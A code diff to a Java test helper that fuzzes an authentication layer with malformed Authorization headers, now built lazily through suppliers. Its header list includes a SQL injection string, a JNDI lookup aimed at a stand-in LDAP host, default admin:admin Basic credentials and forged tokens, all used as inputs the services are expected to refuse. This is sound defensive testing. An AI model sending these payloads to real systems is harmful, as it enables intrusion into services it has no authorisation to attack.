@@ -6,14 +6,15 @@ import java.util.List;
 import java.util.Map;
 import java.util.Random;
 import java.util.Set;
+import java.util.function.Supplier;
 import java.util.function.ToIntFunction;
 import java.util.regex.Pattern;
 import java.util.stream.Collectors;
 
 import com.clinicnet.platform.security.Role;
+import com.clinicnet.testsupport.TestIdentityProvider;
 
 import net.jqwik.api.sessions.JqwikSession;
-import com.clinicnet.testsupport.TestIdentityProvider;
 
 /**
  * Generates requests that every service must refuse: each is an endpoint's base request (already aimed at something
@@ -218,13 +219,15 @@ final class BadRequests {
     private void breakToken(Draft draft) {
         TestIdentityProvider identity = TestIdentityProvider.shared();
         String valid = draft.authorization;
-        List<String> authorizations = Arrays.asList(null, "Bearer", "Bearer ", "Bearer not.a.jwt",
-                "Bearer " + identity.expired(), "Bearer " + identity.fromAnotherIssuer(),
-                "Bearer " + identity.forAnotherAudience(), "Bearer " + identity.unsigned(),
-                "Bearer " + identity.signedByAStranger(), "Bearer " + identity.tampered(), valid + "x",
-                valid + " extra", "Basic YWRtaW46YWRtaW4=", "Bearer ' OR 1=1 --", "Bearer ${jndi:ldap://x.example/a}",
-                "Bearer " + "a".repeat(9_000));
-        draft.authorization = authorizations.get(random.nextInt(authorizations.size()));
+        // suppliers: signing a token takes a while, so only the one chosen is made
+        List<Supplier<String>> authorizations = List.of(() -> null, () -> "Bearer", () -> "Bearer ",
+                () -> "Bearer not.a.jwt", () -> "Bearer " + identity.expired(),
+                () -> "Bearer " + identity.fromAnotherIssuer(), () -> "Bearer " + identity.forAnotherAudience(),
+                () -> "Bearer " + identity.unsigned(), () -> "Bearer " + identity.signedByAStranger(),
+                () -> "Bearer " + identity.tampered(), () -> valid + "x", () -> valid + " extra",
+                () -> "Basic YWRtaW46YWRtaW4=", () -> "Bearer ' OR 1=1 --", () -> "Bearer ${jndi:ldap://x.example/a}",
+                () -> "Bearer " + "a".repeat(9_000));
+        draft.authorization = authorizations.get(random.nextInt(authorizations.size())).get();
         draft.fault("Authorization: " + (draft.authorization == null ? "none"
                 : FuzzRequest.shorten(draft.authorization.length() > 60
                         ? draft.authorization.substring(0, 60) + "…" : draft.authorization)), null);
